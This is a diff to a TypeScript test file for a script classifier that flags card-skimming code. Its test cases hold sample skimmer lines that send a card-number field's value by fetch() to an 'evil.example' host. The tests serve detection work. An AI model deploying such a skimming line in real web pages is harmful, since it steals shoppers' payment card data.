@@ -32,9 +32,9 @@ it('what follows a hidden part of a host says whose it is, the ending of a file 
   const to = (address: string) => judgeScript(`document.querySelector('#cc-number').onchange = (e) => fetch(${address})`)
   expect(to("'https://js.stripe.com' + e.target.value + '.evil.example/'").verdict).toBe('malicious')
   expect(to("'https://' + e.target.value + '.evil.example/'").verdict).toBe('malicious')
-  expect(to("'https://js.stripe.com' + e.target.value + '.min.js'").verdict).toBe('benign')
+  expect(to("'https://js.stripe.com' + e.target.value + '.min.js'").reasons.map(({ code }) => code)).not.toContain('card-to-stranger')
 })
 
 it('the card that goes to the page’s own server or to a provider is no theft', () => {
-  for (const address of ['/pay', 'pay', 'https://api.stripe.com']) expect(judgeScript(skimmer(address)).verdict).toBe('benign')
+  for (const address of ['/pay', 'pay', 'https://api.stripe.com/v1/tokens']) expect(judgeScript(skimmer(address)).verdict).toBe('benign')
 })
